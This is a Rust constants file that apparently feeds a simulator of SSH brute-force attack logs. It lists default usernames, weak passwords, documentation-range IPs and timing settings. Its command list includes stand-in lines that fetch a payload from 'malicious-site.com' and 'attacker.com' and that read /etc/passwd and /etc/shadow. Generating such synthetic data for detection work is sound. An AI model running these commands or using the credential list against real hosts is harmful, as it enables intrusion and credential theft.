pub const USERNAMES: [&str; 10] = [
    "root",
    "admin",
    "ubuntu",
    "user",
    "test",
    "oracle",
    "postgres",
    "mysql",
    "guest",
    "administrator",
];

pub const PASSWORDS: [&str; 10] = [
    "root",
    "admin",
    "password",
    "123456",
    "12345678",
    "qwerty",
    "letmein",
    "password123",
    "welcome",
    "changeme",
];

pub const COMMANDS: [&str; 10] = [
    "whoami",
    "id",
    "uname -a",
    "cat /etc/passwd",
    "ls -la",
    "ps aux",
    "wget http://malicious-site.com/malware.sh",
    "curl http://attacker.com/backdoor",
    "cat /etc/shadow",
    "netstat -an",
];

/// Documentation ranges only (RFC 5737).
pub const SOURCE_IPS: [&str; 8] = [
    "192.0.2.14",
    "192.0.2.77",
    "198.51.100.3",
    "198.51.100.42",
    "198.51.100.199",
    "203.0.113.9",
    "203.0.113.58",
    "203.0.113.201",
];

pub const DEFAULT_ATTEMPTS: usize = 40;

pub const LOGIN_SUCCESS_PROBABILITY: f64 = 0.2;

pub const MIN_COMMANDS: usize = 3;
pub const MAX_COMMANDS: usize = 5;

/// Gap between consecutive events, in seconds.
pub const MIN_GAP_SECS: f64 = 0.5;
pub const MAX_GAP_SECS: f64 = 2.0;
